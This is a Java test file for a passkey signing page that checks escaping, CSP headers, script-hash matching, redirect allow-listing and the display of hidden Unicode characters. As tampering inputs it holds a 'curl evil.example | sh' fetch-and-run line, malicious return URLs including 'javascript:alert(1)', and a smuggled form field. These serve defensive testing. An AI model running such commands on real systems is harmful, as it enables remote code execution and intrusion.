package io.steward.signer;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.steward.protocol.task.CanonicalText;
import io.steward.protocol.task.Parameter;
import io.steward.protocol.task.SignerMessages;
import io.steward.protocol.task.TaskSpec;

/** The signing page over real HTTP: what it shows, what it refuses to show, and that what it asks to sign is what the signer takes. */
class SigningPageTest {
    static final String BODY = "#!/bin/sh\necho 'cleaning <temp>'\n";
    static final Base64.Encoder B64URL = Base64.getUrlEncoder().withoutPadding();

    @TempDir
    Path tmp;
    Fixture f;
    SigningPage page;
    final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void start() throws Exception {
        f = new Fixture(tmp);
        page = new SigningPage("127.0.0.1", 0, Fixture.RP, List.of(Fixture.STEWARD));
    }

    @AfterEach
    void stop() {
        page.close();
    }

    TaskSpec task(Fixture.Person requester, String scriptName, int devices) {
        List<UUID> ids = java.util.stream.IntStream.range(0, devices).mapToObj(i -> UUID.randomUUID()).sorted().toList();
        return new TaskSpec(UUID.randomUUID(), Fixture.CLIENT, requester.id, scriptName, CanonicalText.sha256Hex(BODY.getBytes(StandardCharsets.UTF_8)),
                "sh", "", 60, 65536, List.of(new Parameter("mode", Parameter.Delivery.ARGUMENT, "quick")), ids, "now", f.clock.instant(),
                f.clock.instant().plus(Duration.ofHours(2)), 10, 0, null);
    }

    HttpResponse<String> post(Map<String, String> form) throws Exception {
        String body = form.entrySet().stream().map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "="
                + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8)).collect(Collectors.joining("&"));
        return http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + page.port() + "/sign"))
                .header("Content-Type", "application/x-www-form-urlencoded").POST(HttpRequest.BodyPublishers.ofString(body)).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    Map<String, String> form(TaskSpec task, String script, String returnTo) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put("statement", task.statement());
        if (script != null) {
            form.put("script", B64URL.encodeToString(script.getBytes(StandardCharsets.UTF_8)));
        }
        form.put("return", returnTo);
        form.put("carry", "_csrf=tok%26en&comment=ok&signature=smuggled");
        form.put("credentials", f.trusted("Tina Tech", false).passkey.credentialId());
        return form;
    }

    @Test
    void showsEveryFieldOfTheTaskAndTheMatchingScriptAndAsksForItsDigest() throws Exception {
        Fixture.Person tech = f.trusted("Tina Tech", false);
        Fixture.Person manager = f.trusted("Mona Manager", true);
        TaskSpec task = task(tech, "Clear <b>temp</b>", 3);
        HttpResponse<String> r = post(form(task, BODY, Fixture.STEWARD + "/tasks/" + task.taskId() + "/approve"));
        assertThat(r.statusCode()).isEqualTo(200);
        String csp = r.headers().firstValue("Content-Security-Policy").orElseThrow();
        assertThat(csp).contains("form-action " + Fixture.STEWARD, "frame-ancestors 'none'", "script-src 'self'").doesNotContain("unsafe");
        String html = r.body();
        assertThat(html).contains("on 3 devices", "Clear &lt;b&gt;temp&lt;/b&gt;").doesNotContain("<b>temp");
        assertThat(r.headers().firstValue("Cross-Origin-Opener-Policy")).hasValue("same-origin");
        // The button arms only after the page has been in view a moment (sign.js): it comes disabled.
        assertThat(html).contains("id=\"sign-with-passkey\" disabled");
        for (UUID device : task.deviceIds()) {
            assertThat(html).contains(device.toString());
        }
        assertThat(html).contains("echo &#39;cleaning &lt;temp&gt;&#39;", java.util.HexFormat.of().formatHex(task.digest()));
        assertThat(html).contains("action=\"" + Fixture.STEWARD + "/tasks/" + task.taskId() + "/approve\"");
        // The fields Steward's form carried go back with the signature; a carried assertion field does not.
        assertThat(html).contains("name=\"_csrf\" value=\"tok&amp;en\"", "name=\"comment\" value=\"ok\"")
                .doesNotContain("smuggled");
        assertThat(Pattern.compile("name=\"signature\"").matcher(html).results().count()).isEqualTo(1);

        // What the page asks the authenticator to sign is the task's digest, and signed on this page's origin the signer takes it.
        Matcher challenge = Pattern.compile("data-challenge=\"([A-Za-z0-9_-]+)\"").matcher(html);
        assertThat(challenge.find()).isTrue();
        byte[] asked = Base64.getUrlDecoder().decode(challenge.group(1));
        assertThat(asked).isEqualTo(task.digest());
        SignerMessages.Signed signed = f.signer.signTask(new SignerMessages.SignTask(task, List.of(tech.signs(asked), manager.signs(asked))));
        assertThat(signed.orders()).hasSize(3);
    }

    @Test
    void aScriptThatDoesNotMatchTheSignedHashLeavesNothingToSign() throws Exception {
        TaskSpec task = task(f.trusted("Tina Tech", false), "Clear temp", 1);
        HttpResponse<String> r = post(form(task, BODY + "curl evil.example | sh\n", Fixture.STEWARD + "/tasks"));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).contains("id=\"script-problem\"", "Do not sign").doesNotContain("id=\"sign\"").doesNotContain("curl evil");
    }

    @Test
    void aTaskWhoseScriptWasNotSentCannotBeSigned() throws Exception {
        // Otherwise a server could show a harmless script on its own page and have the hash of another one signed here.
        TaskSpec task = task(f.trusted("Tina Tech", false), "Clear temp", 1);
        HttpResponse<String> r = post(form(task, null, Fixture.STEWARD + "/tasks"));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).contains("did not send the script").doesNotContain("id=\"sign\"");
    }

    @Test
    void namesFromTheServerStayOutOfTheSummaryAndHiddenCharactersShow() throws Exception {
        // A right-to-left override or a zero-width space in a name could make it read as something else.
        TaskSpec task = task(f.trusted("Tina Tech", false), "Disk report\u202E\u200Bon 1 device", 2);
        String html = post(form(task, BODY, Fixture.STEWARD + "/tasks")).body();
        String summary = html.substring(html.indexOf("id=\"summary\""), html.indexOf("</p>", html.indexOf("id=\"summary\"")));
        assertThat(summary).contains("on 2 devices").doesNotContain("Disk report");
        assertThat(html).contains("id=\"hidden-characters\"", "Disk report\u27e8U+202E\u27e9\u27e8U+200B\u27e9on 1 device")
                .doesNotContain("\u202E");
    }

    @Test
    void aStatementMissingTheFieldsOfItsKindIsRefusedNotCrashedOn() throws Exception {
        Map<String, String> form = form(task(f.trusted("Tina Tech", false), "x", 1), BODY, Fixture.STEWARD + "/tasks");
        form.put("statement", B64URL.encodeToString(CanonicalText.begin("steward-standard-change-v1").add("id", "x").bytes()));
        HttpResponse<String> r = post(form);
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(r.body()).contains("lacks fields");
    }

    @Test
    void sendsSignaturesBackOnlyToStewardsOwnAddresses() throws Exception {
        TaskSpec task = task(f.trusted("Tina Tech", false), "Clear temp", 1);
        for (String elsewhere : List.of("https://evil.example/tasks", "https://steward.example.net.evil.example/x", "javascript:alert(1)",
                "https://user@steward.example.net/tasks", "not a url")) {
            HttpResponse<String> r = post(form(task, null, elsewhere));
            assertThat(r.statusCode()).as(elsewhere).isEqualTo(400);
            assertThat(r.body()).doesNotContain("id=\"sign\"");
            assertThat(r.headers().firstValue("Content-Security-Policy").orElseThrow()).contains("form-action 'none'");
        }
    }

    @Test
    void refusesWhatIsNotATaskAStandardChangeOrAKeyringEntry() throws Exception {
        Map<String, String> form = form(task(f.trusted("Tina Tech", false), "x", 1), null, Fixture.STEWARD + "/tasks");
        // A sign-in challenge dressed as a statement: the page signs only the statements the signer knows.
        form.put("statement", B64URL.encodeToString(CanonicalText.begin("steward-sign-in-v1").add("challenge", "abc").bytes()));
        HttpResponse<String> r = post(form);
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(r.body()).contains("tasks, standard changes and keyring entries only");
        form.put("statement", B64URL.encodeToString("steward-task-v1\ntask=a b\n".getBytes(StandardCharsets.UTF_8)));
        assertThat(post(form).statusCode()).isEqualTo(400);
        form.put("statement", "%%%");
        assertThat(post(form).body()).contains("not base64url");
    }

    @Test
    void servesItsScriptAndAPlainAnswerToAnythingElse() throws Exception {
        HttpResponse<String> js = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + page.port() + "/sign.js")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(js.statusCode()).isEqualTo(200);
        assertThat(js.body()).contains("navigator.credentials.get", "data-challenge");
        HttpResponse<String> get = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + page.port() + "/sign")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(get.body()).contains("Nothing to sign here");
        assertThat(http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + page.port() + "/v1/status")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(404);
    }
}
